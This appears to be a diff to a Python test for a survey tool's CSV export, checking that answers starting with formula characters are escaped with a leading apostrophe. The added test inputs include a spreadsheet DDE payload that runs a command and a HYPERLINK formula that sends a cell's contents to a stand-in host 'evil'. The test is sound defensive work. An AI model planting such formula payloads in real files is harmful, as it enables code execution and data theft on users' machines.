@@ -35,6 +35,9 @@ def closed(world: World) -> StoredWave:
     row = world.open(mode="attributed")
     world.all_answer(row, [m.user_id for m in people(11)])
     world.answer(row, "U0001", goals="5", pride="declined", more="=HYPERLINK(1)")
+    world.answer(row, "U0002", goals="5", more="-2+3+cmd|' /C calc'!A0")
+    world.answer(row, "U0003", goals="5", more='+1+HYPERLINK("http://evil/?x="&A2,"see")')
+    world.answer(row, "U0004", goals="5", more="-2")
     world.close()
     return row
 
@@ -58,7 +61,9 @@ def test_its_viewers_read_who_answered_what_and_that_is_in_the_audit_log(world: 
     assert found.people[0][1] == ("5", "prefers not to say", "", "", "=HYPERLINK(1)")
     rows = list(csv.reader(io.StringIO(survey_attributed.as_csv(found).decode("utf-8-sig"))))
     assert rows[0][:2] == ["person", "I know what we want to reach."]
-    assert rows[1][-1] == "'=HYPERLINK(1)"
+    assert [cells[-1] for cells in rows[1:5]] == [
+        "'=HYPERLINK(1)", "'-2+3+cmd|' /C calc'!A0", """'+1+HYPERLINK("http://evil/?x="&A2,"see")""", "-2"
+    ]  # fmt: skip
     shown = "\n".join(plain(part) for part in pulse_people.people(found).parts)
     assert "I know what we want to reach.: 5" in shown
     with world.services.db.read() as connection:
